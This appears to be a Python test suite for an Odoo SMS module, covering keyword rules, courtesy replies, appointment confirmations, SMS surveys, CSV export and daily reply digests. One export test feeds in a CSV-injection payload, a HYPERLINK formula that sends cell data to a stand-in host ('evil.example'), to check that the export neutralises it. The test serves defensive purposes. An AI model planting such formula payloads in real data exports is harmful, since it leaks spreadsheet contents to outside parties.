import base64
import csv
import io
from ast import literal_eval
from datetime import datetime, timedelta
from unittest.mock import patch

from odoo.exceptions import UserError, ValidationError
from odoo.tests import Form, tagged

from .common import NUMBER, AppointmentMixin, TwoWayCommon, new_partner_template, new_sms_mailing

T0 = datetime(2026, 3, 2, 10, 0)  # a Monday, 11:00 in Rome


@tagged("post_install", "-at_install")
class TestKeywordRules(TwoWayCommon):
    """Keyword rules through the real inbound controller."""

    def test_first_word_mode(self):
        rule = self.reply_rule("PRICE, PREZZO")
        interaction = self.reply("Prezzo? grazie")
        self.assertEqual(interaction.matched_rule_id, rule)
        self.assertEqual(interaction.matched_keyword, "PREZZO")
        self.assertFalse(interaction.courtesy_sent)
        self.assertEqual(self.answers(), ["Hi Giulia Rossi, the price is 10 EUR."])
        other = self.reply("what is the price")
        self.assertFalse(other.matched_rule_id)
        self.assertTrue(other.courtesy_sent)

    def test_exact_mode_ignores_case_accents_punctuation(self):
        rule = self.reply_rule("SÌ", mode="exact")
        self.assertEqual(self.reply("si!").matched_rule_id, rule)
        self.assertFalse(self.reply("si, domani").matched_rule_id)

    def test_contains_mode(self):
        rule = self.reply_rule("info please", mode="contains")
        self.assertEqual(self.reply("Hello, more INFO please :)").matched_rule_id, rule)
        self.assertFalse(self.reply("info").matched_rule_id)

    def test_recent_scope(self):
        rule = self.reply_rule("OK", scope="recent", scope_days=3)
        with self.frozen_now(T0):
            self.assertFalse(self.reply("ok", message_id="SM1").matched_rule_id)
            self.send_and_dispatch()
        with self.frozen_now(T0 + timedelta(days=2)):
            self.assertEqual(self.reply("ok", message_id="SM2").matched_rule_id, rule)
        with self.frozen_now(T0 + timedelta(days=4)):
            self.assertFalse(self.reply("ok", message_id="SM3").matched_rule_id)

    def test_template_scope(self):
        rule = self.reply_rule("YES", scope="template", template_id=self.promo_template.id)
        # the promo template is marketing (a template's default kind): it needs consent
        self.partner._sms_consent_set("opted_in", "staff", "signed form")
        with self.frozen_now(T0):
            self.send_and_dispatch("A plain SMS")
            self.assertFalse(self.reply("yes", message_id="SM1").matched_rule_id)
        with self.frozen_now(T0 + timedelta(hours=1)):
            outbox = self.send_and_dispatch(template=self.promo_template)
            self.assertEqual(outbox.template_id, self.promo_template)
            self.assertEqual(self.reply("yes", message_id="SM2").matched_rule_id, rule)

    def test_journey_scope_and_enrol(self):
        with self.frozen_now(T0):
            journey = self.journey_reply_setup()
            other = self.env["sms.journey"].create({"name": "Other"})
            follow_up = self.env["sms.journey"].create({"name": "Follow-up"})
            template = new_partner_template(self.env, "Follow-up", "Thanks!")
            # a running journey's SMS step has its template (TestFlowDrafts)
            self.env["sms.journey.step"].create(
                {"journey_id": follow_up.id, "template_id": template.id}
            )
            follow_up.state = "running"
            self.rule("YES", scope="journey", journey_id=other.id)
            rule = self.rule(
                "YES",
                scope="journey",
                journey_id=journey.id,
                actions=[{"type": "journey_enrol", "journey_id": follow_up.id}],
            )
        with self.frozen_now(T0 + timedelta(hours=2)):
            interaction = self.reply("yes!")
        self.assertEqual(interaction.matched_rule_id, rule)
        participant = self.env["sms.journey.participant"].search(
            [("journey_id", "=", follow_up.id)]
        )
        self.assertEqual(participant.partner_id, self.partner)

    def test_active_dates_and_company(self):
        self.reply_rule("OK", date_end=datetime(2020, 1, 1).date())
        self.reply_rule("OK", company_id=self.env["res.company"].create({"name": "Other"}).id)
        self.assertFalse(self.reply("ok").matched_rule_id)
        rule = self.reply_rule("OK", date_start=datetime(2020, 1, 1).date(), company_id=False)
        self.assertEqual(self.reply("ok again").matched_rule_id, rule)

    def test_actions_run_in_sequence(self):
        self.rule(
            "JOIN",
            actions=[
                {"sequence": 2, "type": "tag_remove", "tag_id": self.tag.id},
                {"sequence": 1, "type": "tag_add", "tag_id": self.tag.id},
                {"sequence": 3, "type": "reply", "template_id": self.promo_template.id},
                {"sequence": 4, "type": "reply", "template_id": self.price_template.id},
            ],
        )
        self.reply("join")
        self.assertNotIn(self.tag, self.partner.category_id)
        self.assertEqual(
            self.answers(), ["Promo for Giulia Rossi!", "Hi Giulia Rossi, the price is 10 EUR."]
        )

    def test_other_actions(self):
        rule = self.rule(
            "CALL ME",
            actions=[
                {"type": "tag_add", "tag_id": self.tag.id},
                {"type": "activity", "activity_summary": "Call back"},
                {"type": "forward", "email_to": "desk@acme.test, boss@acme.test"},
                {"type": "lead"},  # crm is not installed: nothing happens, nothing fails
                {"type": "tag_remove", "tag_id": self.tag.id},  # fails below: skipped
                {"type": "mark_handled"},
            ],
        )
        Action = type(self.env["sms.keyword.rule.action"])
        with (
            patch.object(Action, "_run_tag_remove", side_effect=ValueError("boom")),
            self.assertLogs("odoo.addons.sms_journey.models.sms_keyword_rule_action", "ERROR"),
        ):
            interaction = self.reply("Call me tomorrow please")
        self.assertEqual(interaction.matched_rule_id, rule)
        self.assertIn(self.tag, self.partner.category_id)
        activity = self.partner.activity_ids
        self.assertEqual(activity.summary, "Call back")
        self.assertEqual(activity.user_id, self.salesman)
        mail = self.env["mail.mail"].search([("email_to", "=", "desk@acme.test, boss@acme.test")])
        self.assertEqual(len(mail), 1)
        self.assertIn("Call me tomorrow please", str(mail.body_html))
        self.assertEqual(interaction.state, "handled")

    def test_journey_stage_action(self):
        if "journey_stage" not in self.partner._fields:
            self.skipTest("journey stages are not installed")
        self.rule("VIP", actions=[{"type": "stage", "journey_stage": "loyalty"}])
        self.reply("vip")
        self.assertEqual(self.partner.journey_stage, "loyalty")

    def test_activity_summary_in_the_salesperson_language(self):
        """The summary is translatable: the person who calls back reads it in their own
        language, whoever's reply scheduled it."""
        self.env["res.lang"]._activate_lang("it_IT")
        rule = self.rule("CALL ME", actions=[{"type": "activity", "activity_summary": "Call back"}])
        rule.action_ids.update_field_translations("activity_summary", {"it_IT": "Richiamare"})
        self.salesman.lang = "it_IT"
        self.reply("call me")
        self.assertEqual(self.partner.activity_ids.summary, "Richiamare")
        self.assertEqual(self.partner.activity_ids.user_id, self.salesman)

    def test_activity_falls_back_to_rule_responsible(self):
        no_salesperson = self.env["res.partner"].create(
            {"name": "Paolo Bianchi", "mobile": "+39 333 765 4321"}
        )
        self.rule("CALL", actions=[{"type": "activity"}], user_id=self.salesman.id)
        self.reply("call", sender="+393337654321")
        self.assertEqual(no_salesperson.activity_ids.user_id, self.salesman)

    def test_opt_in_and_opt_out_actions(self):
        self.rule("BASTA PROMO", mode="contains", actions=[{"type": "opt_out"}])
        self.rule("VOGLIO PROMO", mode="contains", actions=[{"type": "opt_in"}])
        self.reply("voglio promo")
        self.assertEqual(self.partner.sms_consent_state, "opted_in")
        self.reply("ora basta promo")
        self.assertEqual(self.partner.sms_consent_state, "opted_out")
        log = self.env["sms.consent.log"].search([("partner_id", "=", self.partner.id)], limit=1)
        self.assertEqual(log.source, "keyword")

    def test_conflicts_sequence_then_specificity(self):
        contains = self.reply_rule("PRICE", mode="contains")
        exact = self.reply_rule("PRICE", mode="exact", template=self.promo_template)
        self.assertEqual(self.reply("price").matched_rule_id, exact)
        self.assertEqual(self.reply("the price").matched_rule_id, contains)
        longer = self.reply_rule("THE PRICE", mode="contains")
        self.assertEqual(self.reply("the price?").matched_rule_id, longer)
        contains.sequence = 1
        self.assertEqual(self.reply("price.").matched_rule_id, contains)

    def test_consent_keywords_win(self):
        self.reply_rule("STOP, HELP", mode="contains")
        interaction = self.reply("STOP")
        self.assertEqual(interaction.consent_action, "opt_out")
        self.assertFalse(interaction.matched_rule_id)
        self.assertFalse(interaction.courtesy_sent)
        self.assertEqual(len(self.answers()), 1)  # only the opt-out confirmation

    def test_unknown_sender(self):
        self.rule("HI", actions=[{"type": "tag_add", "tag_id": self.tag.id}])
        stranger = "+393339999999"
        interaction = self.reply("hi there", sender=stranger)
        self.assertFalse(interaction.partner_id)
        self.assertTrue(interaction.matched_rule_id)
        self.assertFalse(self.answers(stranger))
        self.reply("who are you", sender=stranger)
        self.assertEqual(self.answers(stranger), ["Acme: thanks, we got your message."])

    def test_rule_constraints(self):
        with self.assertRaises(ValidationError):
            self.rule(" , ;")
        with self.assertRaises(ValidationError):
            self.rule("X", scope="template")
        with self.assertRaises(ValidationError):
            self.rule("X", date_start="2026-02-01", date_end="2026-01-01")
        with self.assertRaises(ValidationError):
            self.rule("X", actions=[{"type": "forward"}])


@tagged("post_install", "-at_install")
class TestCourtesyAndThread(TwoWayCommon):
    """Courtesy replies, the chatter thread and notifications."""

    def test_courtesy_reply_once_per_day_per_number(self):
        courtesy = "Acme: thanks, we got your message."
        with self.frozen_now(T0):
            first = self.reply("hello?", message_id="SM1")
        with self.frozen_now(T0 + timedelta(hours=23)):
            second = self.reply("anyone?", message_id="SM2")
            other = self.reply("hi", sender="+393339999999", message_id="SM3")
        with self.frozen_now(T0 + timedelta(hours=24, minutes=1)):
            third = self.reply("hello again", message_id="SM4")
        self.assertEqual([first.courtesy_sent, second.courtesy_sent], [True, False])
        self.assertTrue(other.courtesy_sent)
        self.assertTrue(third.courtesy_sent)
        self.assertEqual(self.answers(), [courtesy, courtesy])
        self.company.sms_courtesy_reply = False
        with self.frozen_now(T0 + timedelta(days=5)):
            self.assertFalse(self.reply("still there?", message_id="SM5").courtesy_sent)

    def test_chatter_thread_order_and_notification(self):
        self.reply_rule("PRICE")
        interaction = self.reply("price?")
        messages = self.env["mail.message"].search(
            [("model", "=", "res.partner"), ("res_id", "=", self.partner.id)], order="id"
        )
        inbound = interaction.mail_message_id
        self.assertEqual(inbound.author_id, self.partner)
        self.assertIn(self.salesman.partner_id, inbound.notification_ids.res_partner_id)
        answer = messages.filtered(lambda m: m.message_type == "sms")
        self.assertEqual(len(answer), 1)
        self.assertGreater(answer.id, inbound.id)  # our answer comes after the reply
        self.assertIn("the price is 10 EUR", answer.body)

    def test_answer_from_chatter_goes_to_the_number_that_wrote(self):
        interaction = self.reply("Can I change my order?")
        composer = Form(
            self.env["sms.composer"].with_context(
                default_res_model="res.partner",
                default_res_id=self.partner.id,
                default_composition_mode="comment",
            )
        )
        composer.body = "Of course, which size?"
        composer.save().action_send_sms()
        self.assertEqual(self.outbox(body="Of course, which size?").number, interaction.number)


@tagged("post_install", "-at_install")
class TestInteractionActions(TwoWayCommon):
    """CSV export and re-targeting from the Interactions list."""

    def setUp(self):
        super().setUp()
        self.rule("PRICE", actions=[{"type": "tag_add", "tag_id": self.tag.id}])
        self.other = self.env["res.partner"].create(
            {"name": "Ion Popescu", "mobile": "+40 722 123 456"}
        )
        self.first = self.reply("price please", message_id="SM1")
        self.second = self.reply("Ciao, domani ok", sender="+40722123456", message_id="SM2")
        self.third = self.reply("thanks", message_id="SM3")
        self.first.action_mark_handled()

    def export(self, mode, interactions=None):
        context = {}
        if interactions is not None:
            context = {"active_model": "sms.interaction", "active_ids": interactions.ids}
        wizard = Form(self.env["sms.interaction.export"].with_context(**context))
        wizard.mode = mode
        wizard = wizard.save()
        action = wizard.action_export()
        self.assertEqual(action["url"], f"/web/content/{wizard.attachment_id.id}?download=true")
        content = base64.b64decode(wizard.attachment_id.datas).decode("utf-8-sig")
        return list(csv.DictReader(io.StringIO(content)))

    def test_export_all(self):
        rows = self.export("all")
        self.assertEqual(
            [r["Message"] for r in rows], ["price please", "Ciao, domani ok", "thanks"]
        )
        self.assertEqual(rows[0]["Keyword"], "PRICE")
        self.assertEqual(rows[0]["Contact"], "Giulia Rossi")
        self.assertEqual(self.second.state, "new")

    def test_export_new_marks_handled(self):
        rows = self.export("new")
        self.assertEqual([r["Message"] for r in rows], ["Ciao, domani ok", "thanks"])
        self.assertEqual((self.second | self.third).mapped("state"), ["handled", "handled"])
        with self.assertRaises(UserError):
            self.export("new")  # nothing new left

    def test_export_selected(self):
        self.assertEqual(self.second.action_export_csv()["res_model"], "sms.interaction.export")
        rows = self.export("selected", self.second | self.first)
        self.assertEqual([r["Message"] for r in rows], ["price please", "Ciao, domani ok"])
        self.assertEqual(self.second.state, "new")

    def test_export_neutralises_formulas(self):
        """OWASP CSV injection: a reply that is a formula stays text in a spreadsheet."""
        attack = self.reply('=HYPERLINK("http://evil.example/?"&A1,"Click")', message_id="SM4")
        rows = self.export("selected", attack | self.second)
        self.assertEqual(
            sorted(r["Message"] for r in rows),
            ['\'=HYPERLINK("http://evil.example/?"&A1,"Click")', "Ciao, domani ok"],
        )

    def test_sms_user_can_export_and_retarget(self):
        interactions = (self.first | self.second).with_user(self.salesman)
        wizard = (
            self.env["sms.interaction.export"]
            .with_user(self.salesman)
            .with_context(active_model="sms.interaction", active_ids=interactions.ids)
            .create({})
        )
        self.assertEqual(wizard.mode, "selected")
        wizard.action_export()
        self.assertTrue(wizard.attachment_id.datas)
        action = interactions.action_send_sms_to_contacts()
        composer = (
            self.env["sms.composer"]
            .with_user(self.salesman)
            .with_context(**action["context"])
            .create({"body": "Hello again"})
        )
        self.assertEqual(composer.recipient_valid_count, 2)

    def test_send_sms_to_these_contacts(self):
        interactions = self.first | self.second | self.third
        action = interactions.action_send_sms_to_contacts()
        self.assertEqual(action["res_model"], "sms.composer")
        composer = Form(self.env["sms.composer"].with_context(**action["context"]))
        composer.body = "Last chance: 20% off today"
        composer = composer.save()
        self.assertEqual(composer.composition_mode, "mass")
        self.assertEqual(composer.res_model, "res.partner")
        self.assertEqual(
            sorted(literal_eval(composer.res_ids)), sorted((self.partner | self.other).ids)
        )
        composer.action_send_sms()
        sms = self.env["sms.sms"].search([("body", "=", "Last chance: 20% off today")])
        self.assertEqual(sms.partner_id, self.partner | self.other)


@tagged("post_install", "-at_install")
class TestAppointments(AppointmentMixin, TwoWayCommon):
    """calendar_sms reminders answered with C / A / R."""

    def remind(self, name, start):
        event, reminder = self.send_reminder(name, start)
        self.assertIn("Reply C to confirm", reminder.body)
        return event

    def test_confirm(self):
        with self.frozen_now(T0):
            event = self.remind("Dentist", T0 + timedelta(days=1))
        with self.frozen_now(T0 + timedelta(minutes=5)):
            interaction = self.reply("c.")
        self.assertEqual(self.attendee(event).state, "accepted")
        self.assertEqual(
            interaction.matched_rule_id,
            self.env.ref("sms_journey.sms_keyword_rule_appointment_confirm"),
        )
        self.assertIn("has accepted", " ".join(event.message_ids.mapped("body")))
        self.assertIn("is confirmed", self.answers()[-1])

    def test_cancel_latest_upcoming_reminded_event(self):
        with self.frozen_now(T0):
            past = self.remind("Yesterday's check-up", T0 + timedelta(hours=2))
        with self.frozen_now(T0 + timedelta(hours=1)):
            later = self.remind("Cleaning", T0 + timedelta(days=6))
        with self.frozen_now(T0 + timedelta(hours=2, minutes=5)):
            sooner = self.remind("Dentist", T0 + timedelta(days=2))
        with self.frozen_now(T0 + timedelta(hours=4)):
            self.reply("Annulla!")
        self.assertEqual(self.attendee(sooner).state, "declined")
        self.assertNotEqual(self.attendee(later).state, "declined")
        self.assertNotEqual(self.attendee(past).state, "declined")
        self.assertIn("is canceled", self.answers()[-1])

    def test_past_event_is_not_answered(self):
        with self.frozen_now(T0):
            event = self.remind("Dentist", T0 + timedelta(hours=2))
        with self.frozen_now(T0 + timedelta(hours=5)):
            self.reply("C")
        self.assertNotEqual(self.attendee(event).state, "accepted")

    def test_reschedule_creates_activity_for_organizer(self):
        with self.frozen_now(T0):
            event = self.remind("Dentist", T0 + timedelta(days=1))
        with self.frozen_now(T0 + timedelta(minutes=5)):
            self.reply("R")
        activity = self.partner.activity_ids
        self.assertEqual(activity.user_id, self.salesman)
        self.assertIn("Dentist", activity.summary)
        self.assertIn("asked by SMS to reschedule", " ".join(event.message_ids.mapped("body")))
        self.assertIn("new time", self.answers()[-1])

    def test_letter_without_reminder_gets_courtesy_reply(self):
        interaction = self.reply("C")
        self.assertFalse(interaction.matched_rule_id)
        self.assertTrue(interaction.courtesy_sent)


@tagged("post_install", "-at_install")
class TestSmsSurvey(TwoWayCommon):
    """Questions answered by SMS reply: valid, invalid (one clarification), expired."""

    @classmethod
    def setUpClass(cls):
        super().setUpClass()
        cls.partner._sms_consent_set("opted_in", "staff", "test")
        cls.question = cls.env["sms.survey.question"].create(
            {
                "name": "Visit",
                "body": "How was your visit? Reply 1 (bad) to 5 (great)",
                "answer_type": "scale",
                "thanks": "Thank you!",
            }
        )

    def ask(self, question=None, partners=None):
        wizard = Form(
            self.env["sms.survey.send"].with_context(
                active_model="res.partner", active_ids=(partners or self.partner).ids
            )
        )
        wizard.question_id = question or self.question
        wizard.save().action_send()
        self.dispatch()
        self.assertEqual(self.outbox(number=NUMBER)[-1:].state, "sent")

    def test_valid_answer(self):
        with self.frozen_now(T0):
            self.ask()
        request = self.question.request_ids
        self.assertEqual((request.partner_id, request.state), (self.partner, "open"))
        with self.frozen_now(T0 + timedelta(hours=1)):
            interaction = self.reply("4/5 grazie")
        answer = self.question.answer_ids
        self.assertEqual((answer.value, answer.value_number), ("4", 4.0))
        self.assertEqual(answer.interaction_id, interaction)
        self.assertEqual(request.state, "answered")
        self.assertFalse(interaction.courtesy_sent)
        self.assertEqual(self.answers()[-1], "Thank you!")
        self.assertEqual((self.question.answer_count, self.question.answer_average), (1, 4.0))

    def test_invalid_answer_gets_one_clarification(self):
        with self.frozen_now(T0):
            self.ask()
        with self.frozen_now(T0 + timedelta(hours=1)):
            first = self.reply("great!", message_id="SM1")
            second = self.reply("really great", message_id="SM2")
            self.reply("5", message_id="SM3")
        answers = self.answers()
        self.assertIn("Please reply 1-5", answers[1])
        self.assertFalse(first.courtesy_sent)
        self.assertTrue(second.courtesy_sent)  # no second clarification
        self.assertEqual(answers[2:], ["Acme: thanks, we got your message.", "Thank you!"])
        self.assertEqual(self.question.answer_ids.value, "5")

    def test_expired_question(self):
        with self.frozen_now(T0):
            self.ask()
        with self.frozen_now(T0 + timedelta(days=4)):
            interaction = self.reply("5")
        self.assertFalse(self.question.answer_ids)
        self.assertTrue(interaction.courtesy_sent)

    def test_open_question_wins_over_keyword_rule(self):
        question = self.env["sms.survey.question"].create(
            {"name": "Again", "body": "Would you come back? YES/NO", "answer_type": "yes_no"}
        )
        self.reply_rule("YES")
        with self.frozen_now(T0):
            self.ask(question)
        with self.frozen_now(T0 + timedelta(hours=1)):
            interaction = self.reply("Yes!")
        self.assertFalse(interaction.matched_rule_id)
        self.assertEqual(question.answer_ids.value, "yes")

    def test_keyword_rule_records_answer(self):
        question = self.env["sms.survey.question"].create(
            {
                "name": "Channel",
                "body": "Where did you hear of us?",
                "answer_type": "choice",
                "choices": "Shop, Website, Friends",
            }
        )
        self.rule("VOTE", actions=[{"type": "survey_answer", "survey_question_id": question.id}])
        self.reply("vote website", message_id="SM1")
        self.reply("vote moon", message_id="SM2")
        self.assertEqual(question.answer_ids.mapped("value"), ["Website"])
        self.assertIn("Please reply Shop/Website/Friends", self.answers()[-1])


@tagged("post_install", "-at_install")
class TestReplyDigest(TwoWayCommon):
    """Daily digests of the replies to a campaign or a journey."""

    @classmethod
    def setUpClass(cls):
        super().setUpClass()
        cls.other = cls.env["res.partner"].create(
            {"name": "Ion Popescu", "mobile": "+40 722 123 456", "tz": "Europe/Bucharest"}
        )
        (cls.partner | cls.other)._sms_consent_set("opted_in", "staff", "test")
        cls.company.partner_id.tz = "Europe/Rome"

    def launch_campaign(self):
        mailing = new_sms_mailing(
            self.env,
            "Spring sale: -20% until Sunday!",
            self.partner | self.other,
            name="Spring sale",
            sms_force_send=True,
            sms_allow_unsubscribe=False,
        )
        mailing.action_send_sms()
        self.dispatch()
        self.assertEqual(len(self.outbox(state="sent")), 2)
        return mailing

    def digest(self, **values):
        return self.env["sms.interaction.digest"].create(
            {"email_to": "anna@acme.test, marco@acme.test", "date_start": T0, **values}
        )

    def run_cron(self, moment):
        before = self.env["mail.mail"].search([]).ids
        with self.frozen_now(moment):
            self.env["sms.interaction.digest"]._cron_send_digests()
        return self.env["mail.mail"].search([("id", "not in", before)])

    def test_campaign_digest_timing_recipients_and_content(self):
        self.reply_rule("PRICE")
        with self.frozen_now(T0):
            mailing = self.launch_campaign()
            digest = self.digest(mailing_id=mailing.id)
        with self.frozen_now(T0 + timedelta(hours=1)):
            self.reply("Price please", message_id="SM1")
            self.reply("Super, thanks", sender="+40722123456", message_id="SM2")
            self.reply("Who is this?", sender="+393339999999", message_id="SM3")  # not ours
        self.assertFalse(self.run_cron(T0 + timedelta(hours=6, minutes=59)))  # 17:59 Rome
        mail = self.run_cron(T0 + timedelta(hours=7, minutes=5))  # 18:05 Rome
        self.assertEqual(len(mail), 1)
        self.assertEqual(mail.email_to, "anna@acme.test, marco@acme.test")
        self.assertIn("2 new SMS replies", mail.subject)
        body = str(mail.body_html)
        self.assertIn("Price please", body)
        self.assertIn("Super, thanks", body)
        self.assertNotIn("Who is this?", body)
        self.assertIn("<td>PRICE</td><td>1</td>", body)
        self.assertIn("/odoo/action-sms_journey.sms_interaction_action", body)
        self.assertFalse(self.run_cron(T0 + timedelta(hours=7, minutes=30)))  # once a day
        # Nothing new the next day: no email.
        self.assertFalse(self.run_cron(T0 + timedelta(days=1, hours=7, minutes=5)))
        with self.frozen_now(T0 + timedelta(days=2, hours=2)):
            self.reply("Still valid?", message_id="SM4")
        mail = self.run_cron(T0 + timedelta(days=2, hours=7, minutes=5))
        self.assertIn("1 new SMS replies", mail.subject)
        self.assertNotIn("Price please", str(mail.body_html))
        # After 10 days, no more digests.
        with self.frozen_now(T0 + timedelta(days=10, hours=2)):
            self.reply("Late answer", message_id="SM5")
        self.assertFalse(self.run_cron(T0 + timedelta(days=10, hours=7, minutes=5)))
        self.assertEqual(digest.last_run_at, T0 + timedelta(days=2, hours=7, minutes=5))

    def test_journey_digest(self):
        with self.frozen_now(T0):
            journey = self.journey_reply_setup()
            self.digest(journey_id=journey.id, hour=12.0, days=1)
        with self.frozen_now(T0 + timedelta(minutes=30)):
            self.reply("yes!")
        mail = self.run_cron(T0 + timedelta(hours=1, minutes=1))  # 12:01 Rome
        self.assertIn("yes!", str(mail.body_html))

    def test_digest_constraints(self):
        with self.frozen_now(T0):
            mailing = self.launch_campaign()
        with self.assertRaises(ValidationError):
            self.digest(
                mailing_id=mailing.id, email_to=", ".join(f"u{i}@acme.test" for i in range(6))
            )
        with self.assertRaises(ValidationError):
            self.digest()
